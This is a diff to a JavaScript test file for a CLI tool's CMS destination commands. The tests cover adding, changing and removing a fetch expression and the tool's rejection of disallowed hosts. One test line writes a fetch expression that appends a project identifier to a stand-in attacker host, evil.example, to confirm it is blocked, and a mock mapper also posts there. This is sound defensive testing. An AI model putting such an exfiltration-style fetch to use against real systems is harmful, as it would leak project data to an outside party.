@@ -99,6 +99,31 @@ describe('segue destination', () => {
     const faults = await segue('test', 'cms', '--project', 'page', '--language', 'de-DE', '--mapping', wrong);
     expect(faults.code).toBe(2);
     expect(faults.stderr.match(/^request \d/gm)).toEqual(['request 1', 'request 2', 'request 2']);
+    await segue('change', 'cms', '--fetch', '"https://evil.example/" & project.customId');
+    const unread = await segue('test', 'cms', '--project', 'page', '--language', 'de-DE');
+    expect(unread).toMatchObject({ code: 1, stderr: expect.stringContaining('host that is not allowed') });
+  });
+
+  it('adds, changes and removes the fetch of a page', async () => {
+    const { folder, add, segue } = await folderWith();
+    const fetchOf = async () => (await readDestination(openSqlite(Date.now, folder), 'cms'))?.fetch;
+    expect(await add('--fetch', '"https://cms.example/" &')).toMatchObject({
+      code: 2,
+      stderr: expect.stringContaining('--fetch:1:'),
+    });
+    expect(await add('--fetch', `1${' '.repeat(5_000)}`)).toMatchObject({
+      code: 1,
+      stderr: expect.stringContaining('4096'),
+    });
+    expect(await add('--fetch', '"https://cms.example/1"')).toMatchObject({ code: 0 });
+    expect(await fetchOf()).toBe('"https://cms.example/1"');
+    expect(JSON.parse((await segue('list', '--json')).stdout)).toMatchObject({ fetch: '"https://cms.example/1"' });
+    await segue('change', 'cms', '--host', 'a.example');
+    expect(await fetchOf()).toBe('"https://cms.example/1"');
+    expect(await segue('change', 'cms', '--fetch', '"https://cms.example/2"')).toMatchObject({ code: 0 });
+    expect(await fetchOf()).toBe('"https://cms.example/2"');
+    expect(await segue('change', 'cms', '--no-fetch')).toMatchObject({ code: 0 });
+    expect(await fetchOf()).toBeUndefined();
   });
 
   it('lists, shows and redrives dead letters', async () => {
@@ -121,6 +146,7 @@ describe('segue destination', () => {
       findDestination: async () => destination && { ...destination, on: ['project.deleted'] },
       reads: { project: never, segments: never },
       mapper: { applyToJson: async () => ({ method: 'POST', url: 'https://evil.example/' }) },
+      openGetEntries: never,
       secretOf: never,
       requireCompany: async () => undefined,
       send: never,
